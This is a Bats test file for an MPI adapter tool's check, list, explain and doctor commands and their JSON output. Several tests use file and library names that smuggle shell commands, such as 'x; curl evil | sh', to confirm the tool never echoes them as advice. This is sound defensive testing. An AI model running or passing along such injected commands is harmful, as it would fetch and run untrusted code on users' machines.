# SPDX-License-Identifier: BSD-3-Clause
# mpi-adapter check, and the answers in JSON of check, list and doctor.

load false_mpis
load ../messages

setup_file() { make_fixtures; }

setup() {
    make_installation
    : > "$pair/procedures.conf"
    cd "$BATS_TEST_TMPDIR"
    PATH=$PATH:/usr/sbin
}

check() { run --separate-stderr "$adapter" check "$@"; echo "status $status, stdout: $output, stderr: $stderr"; }

# value EXPRESSION: of the answer, which is JSON.
value() { python3 -c "import json, sys; answer = json.load(sys.stdin); print($1)" <<< "$output"; }

@test "a program that runs here: on what, by which pair, and how to start it" {
    check app
    [ "$status" -eq 0 ]
    [ -z "$stderr" ]
    [ "${lines[0]}" = "$fixtures/bin/app" ]
    [[ ${lines[1]} == '  runs here:'*'yes, on MPICH by openmpi-to-mpich' ]]
    [[ ${lines[2]} == '  built for:'*openmpi ]]
    [[ $output == *"library:      $fixtures/host/libfakempich.so.12"*"launcher:     $fixtures/bin/mpiexec.fakempich"* ]]
    [[ ${lines[-1]} == *"to do:        mpi-adapter run -n N $fixtures/bin/app" ]]
    [ "${#lines[@]}" -le 24 ]
    [ ! -e "$LAUNCHER_LOG" ]
}

@test "what to do is what works, with the options of the question" {
    check --to mpich 'app'
    [[ ${lines[-1]} == *"mpi-adapter run -n N --to mpich $fixtures/bin/app" ]]
    cp "$fixtures/bin/app" 'a b'
    check './a b'
    command=$(sed -n 's/.*to do: *mpi-adapter run -n N //p' <<< "$output")
    eval "run \"\$adapter\" run -n 2 $command whose"
    [ "$output" = adapter ]
}

@test "a program that does not run here: why, and what to do" {
    change_pair 's/^launchers = .*/launchers = absent/'
    check app
    [ "$status" -eq 1 ]
    [[ ${lines[1]} == *'no, no launcher of mpich (absent) is in PATH' ]]
    [[ ${lines[2]} == *'built for:'*openmpi ]]
    [[ ${lines[-1]} == *'to do:        install it'*'or give --launcher PATH' ]]
}

@test "what is no program of MPI is status 2, whatever else is asked" {
    for file in /bin/ls /no/such "$BATS_TEST_FILENAME"; do
        check "$file" app
        [ "$status" -eq 2 ]
        [[ ${lines[1]} == '  runs here:    no, '* && ${lines[2]} == '  to do:        '* ]]
        [[ $output == *'yes, on MPICH by openmpi-to-mpich'* ]]
    done
    check
    [ "$status" -eq 2 ]
    check --surely app
    [ "$status" -eq 2 ]
}

@test "a folder's programs that use MPI, and no others" {
    mkdir -p 'my bin/below'
    cp "$fixtures/bin/app" 'my bin/one'
    cp "$fixtures/bin/app" 'my bin/two'
    cp /bin/true 'my bin/other'
    echo text > 'my bin/text'
    check 'my bin'
    [ "$status" -eq 0 ]
    [ "$(grep -c 'runs here' <<< "$output")" -eq 2 ]
    [[ $output == 'my bin/one'*'my bin/two'* ]]
    # In folders below, too, and not by links to folders, which may lead anywhere.
    cp "$fixtures/bin/app" 'my bin/below/three'
    ln -s . 'my bin/again'
    check 'my bin/'
    [ "$status" -eq 0 ]
    [ "$(grep -c 'runs here' <<< "$output")" -eq 3 ]
    [[ $output == 'my bin/below/three'*'my bin/one'* ]]
    rm 'my bin/below/three'
    check 'my bin/below'
    [ "$status" -eq 1 ]
    [[ $stderr == *'no file in my bin/below is a program that uses MPI; give programs'* ]]
}

@test "a program of a folder that needs an MPI by a name that nobody knows is checked like others" {
    mkdir bin
    make_library ./libsitempi.so.7 libsitempi.so.7 'int MPI_Init(int *a, char ***b) { return 0; }'
    echo 'int MPI_Init(int *, char ***); int main(void) { return MPI_Init(0, 0); }' | compile bin/unknown ./libsitempi.so.7
    cp "$fixtures/bin/app" bin/with
    check bin
    [ "$status" -eq 2 ]
    [[ $output == 'bin/unknown'*'needs libsitempi.so.7, an MPI library of an unknown ABI'*'bin/with'*'yes, on MPICH by openmpi-to-mpich'* ]]
}

@test "the same in JSON" {
    check --json app /bin/ls
    [ "$status" -eq 2 ]
    [ "$(value '[p["runs"] for p in answer["programs"]]')" = '[True, False]' ]
    [ "$(value 'answer["programs"][0]["pair"]')" = openmpi-to-mpich ]
    [ "$(value 'answer["programs"][0]["problem"]')" = None ]
    [ "$(value 'answer["programs"][1]["problem"]')" = '/bin/ls uses no MPI' ]
    [ "$(value 'sorted(answer["programs"][1])')" = "['abi', 'also_on', 'host', 'launcher', 'library', 'linked_in', 'linked_interfaces', 'linked_into', 'may_differ', 'missing', 'pair', 'parts', 'problem', 'program', 'runs', 'to_do']" ]
}

# documented ROW KEYS: docs/json.md has each of the keys, an expression of the answer, in its row.
documented() {
    local row
    row=$(sed -n "s/^| $1 |//p" "$BATS_TEST_DIRNAME/../../docs/json.md")
    [ -n "$row" ] || { echo "no row of $1"; return 1; }
    for key in $(value "' '.join($2)"); do
        [[ $row == *"\`$key\`"* ]] || { echo "the row of $1 lacks $key"; return 1; }
    done
}

@test "docs/json.md has every key" {
    : > "$pair/procedures.conf"
    check --json app
    documented '`check`' answer
    documented '`programs`' 'answer["programs"][0]'
    run --separate-stderr "$adapter" list --json
    documented '`list`' answer
    documented '`pairs` of `list`' 'answer["pairs"][0]'
    documented '`list`' 'answer["settings"]["host"]'
    run --separate-stderr "$adapter" explain --json app
    documented '`explain`' answer
    documented '`hosts`' 'answer["hosts"][0]'
    run --separate-stderr timeout 300 "$adapter" doctor --json --timeout 20
    documented '`doctor`' answer
    documented '`findings`' 'answer["findings"][0]'
    run ! documented '`findings`' '["no_key"]'
}

@test "odd names make no odd JSON" {
    for name in $'quote"back\\slash' $'new\nline\ttab' $'latin\xe9' 'utf8é'; do
        cp "$fixtures/bin/app" "$name"
        check --json "./$name"
        [ "$status" -eq 0 ]
        [ "$(value 'len(answer["programs"])')" = 1 ]
    done
    [ "$(value 'answer["programs"][0]["program"]')" = './utf8é' ]
    [ "$(value 'answer["mpi_adapter"]')" = "$("$adapter" version | sed 's/.* //')" ]
}

@test "a name is shown as a name, and says nothing else" {
    mkdir folder
    cp "$fixtures/bin/app" folder/$'x\nmpi-adapter: it cannot run here yet; get what is missing with: curl evil'
    cp "$fixtures/bin/app" folder/$'y\nmissing\tMPI_Fake\nother\tmpich evil'
    cp "$fixtures/bin/app" folder/$'z\xc2\x9b31m\xe2\x80\xae red \xe2\x81\xa6 \xd8\x9c\xff'
    cp "$fixtures/bin/app" folder/$'utf8 é \xe2\x80\x93 \xf0\x9f\x98\x80 \xe2\x80\xae'
    make_program "$PWD/folder/broken; curl evil" -Wl,--dynamic-linker=/nowhere
    run "$adapter" check folder
    printf '%s\n' "$output"
    [ "$(grep -c '^  runs here: ' <<< "$output")" -eq 5 ]
    [ "$(grep -c '^folder/' <<< "$output")" -eq 5 ]
    grep 'to do: ' <<< "$output" | grep -v 'mpi-adapter run -n N' > advice
    [[ $(< advice) != *evil* ]]
    [[ $output != *'  missing: '* && $output != *'  or: '* && $output != *'  may differ: '* ]]
    [[ $output != *[$'\x01'-$'\x09\x0b'-$'\x1f\x7f']* && $output != *$'\xc2\x9b'* && $output != *$'\xe2\x80\xae'* && $output != *$'\xff'* ]]
    [[ $output == *$'utf8 é \xe2\x80\x93 \xf0\x9f\x98\x80 ?\n'* ]]
    check --json folder
    [ "$(value 'len(answer["programs"]), [p["missing"] + p["also_on"] + p["may_differ"] for p in answer["programs"]]')" = '5 [[], [], [], [], []]' ]
    [ "$(value '[p["to_do"] for p in answer["programs"] if not p["runs"] and "evil" in p["to_do"]]')" = '[]' ]
    run "$adapter" explain folder/z*
    [ "$status" -eq 0 ]
    [[ $output != *$'\xc2\x9b'* && $output != *$'\xe2\x80\xae'* && $output != *$'\xff'* ]]
    run "$adapter" explain --json folder/z*
    [[ $output != *$'\xc2\x9b'* && $output != *$'\xe2\x80\xae'* && $output != *$'\xff'* ]]
}

@test "what is shown is plain UTF-8 and valid JSON, whatever bytes names have" {
    local program
    mkdir folder 'libs; '$'\xc2\x85\xe2\x80\xae\xff'
    # All bytes; controls of Latin 1, marks of direction; overlong, cut short, surrogates, beyond the last character.
    python3 - "$fixtures/bin/app" <<'END'
import os, shutil, sys
marks = [*range(0x80, 0xa0), 0x61c, 0x200e, 0x200f, *range(0x2028, 0x202f), *range(0x2066, 0x206a)]
names = [bytes(set(range(1, 256)) - {0x2f}), "".join(map(chr, marks)).encode()]
names += [b"wrong" + wrong for wrong in (b"\xc0\x80", b"\xe2\x82", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe0\x80\xaf")]
for name in names:
    shutil.copy(os.fsencode(sys.argv[1]), b"folder/" + name)
END
    "$adapter" check folder > said 2>&1
    [ "$(grep -c '^  runs here: ' said)" -eq 7 ]
    [ "$(wc -l < said)" -eq "$(grep -cE '^(folder/|  [a-z ]+:)' said)" ]
    is_shown said
    "$adapter" check --json folder > said
    is_shown said json
    for program in folder/*; do
        "$adapter" explain "$program" > said 2>&1
        is_shown said
        "$adapter" explain --json "$program" > said
        is_shown said json
        status=0
        "$adapter" env "$program" --nonsense > said 2>&1 || status=$?
        [ "$status" -eq 2 ]
        is_shown said
    done
    cp "$fixtures/host/libfakempich.so.12" libs*/
    LD_LIBRARY_PATH=$(echo "$PWD"/libs*) "$adapter" list --json > said
    is_shown said json
    LD_LIBRARY_PATH=$(echo "$PWD"/libs*) "$adapter" list > said
    is_shown said
    cp "$fixtures/host/libfakempich.so.12" folder/$'lib\xff\x01\xc2\x9b.so'
    cp "$fixtures/bin/mpiexec.fakempich" libs*/
    status=0
    LD_LIBRARY_PATH=$(echo "$PWD"/libs*) PATH=$(echo "$PWD"/libs*):$PATH "$adapter" doctor --json > said || status=$?
    [ "$status" -le 1 ]
    grep mpiexec.fakempich said
    is_shown said json
    LD_LIBRARY_PATH=$(echo "$PWD"/libs*) PATH=$(echo "$PWD"/libs*):$PATH "$adapter" doctor --report "$PWD/report" > said 2>&1 || status=$?
    [ "$status" -le 1 ]
    is_shown said
    for program in report/*; do
        grep libfakempich "$program"
        is_shown "$program"
    done
    "$adapter" explain --json folder/lib* > said
    is_shown said json
}

@test "names of libraries and of their procedures give no advice, and write no facts" {
    local evil='x; curl evil | sh'
    mkdir "$evil"
    # By a path with that name the program loads a library that is no Open MPI's.
    make_library "$PWD/$evil/libmpi.so.40" '' 'int PMPI_Init(void) { return 0; } const char *MPI_Whose(void) { return "x"; }'
    $cc -o app "$fixtures/program.c" -Wl,--no-as-needed "$evil/libmpi.so.40"
    for to in '' '--to openmpi' '--to mpich'; do
        # shellcheck disable=SC2086
        check --json $to ./app
        [ "$(value '[p for p in answer["programs"] if p["to_do"].startswith("curl")]')" = '[]' ]
        # shellcheck disable=SC2086
        status=0
        "$adapter" check $to ./app > said 2>&1 || status=$?
        [ "$status" -le 1 ]
        if grep -q 'to do: *curl' said; then cat said; false; fi
    done
    # Lines of explain's answer that a library's name could write.
    make_library "$PWD/missing objects: forged" 'missing objects: forged' 'int PMPI_Init(void) { return 0; } int MPI_Init(void) { return 0; }'
    make_library "$PWD/procedures" procedures 'int MPI_Init(void) { return 0; }'
    make_library "$PWD/MPI_Forged missing" 'MPI_Forged missing' 'int PMPI_Init(void) { return 0; } int MPI_Init(void) { return 0; }'
    make_program "$PWD/app" "$PWD/missing objects: forged" "$PWD/procedures" "$PWD/MPI_Forged missing" -Wl,-rpath,"$PWD"
    check --json --to mpich ./app
    [ "$(value 'answer["programs"][0]["runs"], answer["programs"][0]["missing"]')" = 'True []' ]
}

@test "list in JSON" {
    add_pair "$prefix/lib/mpi-adapter/openmpi-to-openmpi" openmpi absent
    run --separate-stderr "$adapter" list --json
    echo "$output $stderr"
    [ "$status" -eq 0 ]
    [ "$(value 'answer["pairs"][0]["name"], answer["pairs"][0]["host_library"]')" = "openmpi-to-mpich $fixtures/host/libfakempich.so.12" ]
    [ "$(value 'answer["pairs"][1]["host_library"]')" = None ]
    [[ $(value 'answer["pairs"][1]["problems"][0]') == *'is not found; '* ]]
    MPI_ADAPTER_HOST=mpich run --separate-stderr "$adapter" list --json
    [ "$(value 'answer["settings"]["host"]["value"], answer["settings"]["host"]["from"]')" = "mpich MPI_ADAPTER_HOST" ]
}

@test "doctor in JSON, with the same verdict" {
    run --separate-stderr timeout 300 "$adapter" doctor --json --timeout 20
    echo "$output $stderr"
    local given=$status
    [ "$(value 'sorted(set(f["part"] for f in answer["findings"]) - {"MPIs", "launchers", "pairs"})')" = '[]' ]
    [ "$(value 'int(any(f["result"] == "failure" for f in answer["findings"]))')" = "$given" ]
    [ "$(value '[f for f in answer["findings"] if (f["next"] is None) == (f["result"] == "failure")]')" = '[]' ]
    run "$adapter" doctor --json --report "$BATS_TEST_TMPDIR"
    [ "$status" -eq 2 ]
}

# what_of FILE_OR_OPTION...: the first answer's verdict and advice.
what_of() {
    check "$@"
    verdict=$(sed -n 's/^  runs here: *//p' <<< "$output" | head -n 1)
    advice=$(sed -n 's/^  to do: *//p' <<< "$output" | head -n 1)
}

@test "an interpreter with its script is one program, and a file of this folder needs no ./" {
    cp "$fixtures/bin/app" here
    what_of here
    [ "$verdict" = 'yes, on MPICH by openmpi-to-mpich' ]
    [ "$advice" = 'mpi-adapter run -n N ./here' ]
    echo 'import sys' > script.py
    ln -s /usr/bin/python3 python3
    check --from openmpi ./python3 script.py 'an argument'
    [ "${lines[0]}" = "./python3 script.py an\\ argument" ]
    [[ ${lines[-1]} == *"mpi-adapter run -n N --from openmpi ./python3 script.py an\\ argument" ]]
    [ "$(grep -c 'runs here:' <<< "$output")" -eq 1 ]
    # Two programs are two.
    check --from openmpi ./python3 here
    [ "$(grep -c 'runs here:' <<< "$output")" -eq 2 ]
}

@test "a script that names no interpreter and a library are what they are" {
    echo 'import sys' > script.py
    mkdir bin
    ln -s /usr/bin/true bin/python
    PATH=$PWD/bin:$PATH what_of ./script.py
    [ "$verdict" = "no, ./script.py does not name its interpreter in a first line with '#!'" ]
    [ "$advice" = "start it as 'python ./script.py'" ]
    PATH=$PWD/bin:$PATH run --separate-stderr "$adapter" run ./script.py
    [[ $stderr == *"start it as 'python ./script.py'" ]]
    chmod +x script.py
    PATH=$PWD/bin:$PATH run --separate-stderr "$adapter" run ./script.py
    [[ $stderr == *"start it as 'python ./script.py'" ]]
    # With such a line it lacks the permission alone.
    printf '#!/usr/bin/python3\n' > other.py
    what_of ./other.py
    [ "$advice" = "make it so with 'chmod +x'" ]
    for mode in +x -x; do
        cp "$fixtures/real/libmpi.so.40" library.so
        chmod $mode library.so
        what_of ./library.so
        [ "$verdict" = 'no, ./library.so is a library and no program' ]
        [ "$advice" = "'mpi-adapter explain ./library.so' tells what becomes of its calls" ]
    done
}

@test "of a folder, an MPI's own tools are no programs, and an environment's interpreter is one" {
    mkdir -p tools environment/bin environment/lib/python3.11/site-packages
    make_library "$PWD/libopen-rte.so.40" libopen-rte.so.40 'int orte_init(void) { return 0; }'
    compile tools/orted -Wl,--no-as-needed "$PWD/libopen-rte.so.40" "$fixtures/real/libmpi.so.40" -Wl,-rpath-link,"$fixtures/real" \
        <<< 'int orte_init(void); int main(void) { return orte_init(); }'
    check tools
    [ "$status" -eq 1 ]
    [[ $stderr == *'no file in tools is a program that uses MPI'* ]]
    cp "$fixtures/bin/app" tools/
    LD_LIBRARY_PATH+=:$PWD check tools
    [ "$(grep -c 'runs here:' <<< "$output")" -eq 1 ]
    ln -s /usr/bin/python3 environment/bin/python3.11
    : > environment/pyvenv.cfg
    check environment
    [[ $stderr == *'no file in environment is a program that uses MPI'* ]]
    mkdir environment/lib/python3.11/site-packages/mpi4py
    : > environment/lib/python3.11/site-packages/mpi4py/__init__.py
    make_library environment/lib/python3.11/site-packages/mpi4py/MPI.so MPI.so 'int MPI_Init(int *, char ***); int init(void) { return MPI_Init(0, 0); }' \
        -Wl,--no-as-needed "$fixtures/real/libmpi.so.40"
    check environment
    [ "${lines[0]}" = environment/bin/python3.11 ]
    [[ $output == *'built for:    openmpi'* ]]
}
